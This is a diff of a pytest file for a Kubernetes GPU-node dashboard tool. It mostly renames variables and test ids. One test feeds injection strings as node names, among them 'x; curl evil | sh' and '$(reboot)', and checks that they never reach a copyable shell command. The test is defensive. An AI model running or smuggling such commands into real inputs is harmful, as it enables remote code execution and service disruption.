@@ -44,7 +44,7 @@ REPAIRED = 'kubectl gpuward mark-replaced b --reason "..."'
 RELEASE = 'kubectl gpuward release b --reason "..."'
 REPAIR = "kubectl gpuward approve b"
 TAKE = 'kubectl gpuward quarantine b --reason "..."'
-BY_PERSON = Cause(source="Human", reason="Requested", message="fan noise", by="ann")
+BY_OPERATOR = Cause(source="Human", reason="Requested", message="fan noise", by="ann")
 BY_OTHERS = Cause(source="External", incident="external-1", reason="SiteSays", severity="Fatal")
 STEP = Condition(type="RepairProposed", status="True", reason="ResetGPU", message="proposed")
 NONE_LEFT = Condition(type="Blocked", status="True", reason="NoStepLeft", message="none left")
@@ -99,14 +99,14 @@ def world(
     ("of", "commands"),
     [
         pytest.param(world(incident()), [HOLD, RELEASE], id="closes on what the agent sees"),
-        pytest.param(world(incident("Human")), [HOLD, REPAIRED, RELEASE], id="closes on a word"),
+        pytest.param(world(incident("Human")), [HOLD, REPAIRED, RELEASE], id="by an operator"),
         pytest.param(
             world(incident("State(x, 3 of 5)", held=ago(60))), [HOLD, REPAIRED, RELEASE],
             id="kept open since it came back too often",
         ),
         pytest.param(world(None), [HOLD, REPAIRED, RELEASE], id="nobody knows what it closes on"),
         pytest.param(world(incident("Human", active=False)), [HOLD, RELEASE], id="it has closed"),
-        pytest.param(world(None, BY_PERSON), [HOLD, RELEASE], id="an operator asked for it"),
+        pytest.param(world(None, BY_OPERATOR), [HOLD, RELEASE], id="an operator asked for it"),
         pytest.param(world(None, BY_OTHERS), [HOLD, RELEASE], id="others report it"),
         pytest.param(world(incident(), hold=True), [UNHOLD, RELEASE], id="held"),
         pytest.param(world(incident(), held=True), [UNHOLD, RELEASE], id="held on the node"),
@@ -130,7 +130,7 @@ def test_only_what_changes_something_is_offered(of: PageState, commands: list[st
     assert [act.command for act in node_of(of, "b").acts] == commands
     html = node_html(of, "b")
     asked = ("hold", "unhold", "release", "mark-replaced", "approve", "resume", "quarantine")
-    offered = [word for word in asked if f"gpuward {word} " in html]
+    offered = [one for one in asked if f"gpuward {one} " in html]
     assert sorted(offered) == sorted(one.split()[2] for one in commands)
     snapshot = of.snapshot
     on = snapshot.nodes["b"]
@@ -172,11 +172,11 @@ def test_of_a_node_in_service_only_what_works_is_offered(
 
 @pytest.mark.parametrize("bad", ["x; curl evil | sh", "$(reboot)", "../x", "-o", ""])
 def test_of_what_no_node_can_be_called_there_is_nothing_to_copy(bad: str) -> None:
-    """Whoever may write a session names any node in it, and a click puts it into a shell."""
+    """A session can name any node, and a click copies the command to a shell."""
     there = session("b-1", bad, "NodeGone")
-    said = node_html(state([], [there]), bad)
-    assert f"gpuward why {bad}" not in said
-    assert "code class=copy" not in said.replace('"', "")
+    output = node_html(state([], [there]), bad)
+    assert f"gpuward why {bad}" not in output
+    assert "code class=copy" not in output.replace('"', "")
 
 
 @pytest.mark.parametrize("phase", ["Released", "NodeGone"])
